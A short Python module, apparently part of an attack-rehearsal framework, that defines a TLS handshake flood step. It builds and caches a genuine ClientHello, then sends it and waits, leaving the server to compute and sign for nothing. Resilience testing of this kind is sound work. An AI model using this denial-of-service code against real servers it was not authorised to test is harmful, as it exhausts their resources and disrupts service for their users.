"""A TLS handshake flood: a ClientHello that makes the other side compute and sign, and then nothing.

The hello is a real one, made once and sent by all: what costs is the answer to it. Where the target speaks plain
HTTP it is a stranger's bytes that are no request.
"""

from __future__ import annotations

import contextlib
import functools
import ssl
from collections.abc import Iterator

from rostra.rehearsal.attacks.steps import Aim, Answer, Send, Step


def script(aim: Aim, number: int) -> Iterator[Step]:
    yield Send(client_hello(aim.target.host))
    yield Answer()


@functools.cache
def client_hello(host: str) -> bytes:
    """What a browser says first (RFC 8446, 4.1.2), key share included."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    coming, going = ssl.MemoryBIO(), ssl.MemoryBIO()
    connection = context.wrap_bio(coming, going, server_hostname=host)
    with contextlib.suppress(ssl.SSLWantReadError):
        connection.do_handshake()
    return going.read()
